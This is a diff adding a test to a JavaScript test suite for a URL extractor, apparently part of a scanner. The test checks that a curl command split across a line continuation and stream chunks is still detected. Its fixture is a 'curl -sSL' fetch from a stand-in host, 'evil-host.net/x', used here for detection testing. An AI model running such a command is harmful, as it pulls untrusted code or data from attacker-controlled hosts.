@@ -295,6 +295,18 @@ describe('a line in pieces', () => {
     expect(found).toEqual([]);
   });
 
+  it('is a command that goes on behind the end of a chunk', async () => {
+    const command = '+curl -sSL \\\n+  evil-host.net/x\n';
+    const whole = await extracted(command, { marked: true });
+    expect(places(whole)).toEqual(['url http://evil-host.net/x 2:3']);
+    for (let cut = 1; cut < command.length; cut += 1)
+      expect(await extracted(command, { marked: true, cuts: [cut] }), `cut at ${cut}`).toEqual(whole);
+    const extractor = createExtractor({ checks: ['urls'] });
+    extractor.text(FILE, { ...LINE, text: 'curl -sSL \\\n' });
+    extractor.text(FILE, { ...LINE, line: 9, text: 'evil-host.net/x\n' });
+    expect(await extractor.finish()).toEqual([]);
+  });
+
   it('tells the line behind it', async () => {
     const found = await extracted(`a\n${long}\n${long}8.8.8.8 ${long}\n9.9.9.9`, {
       cuts: [30_000, 100_000, 150_000, 300_000],
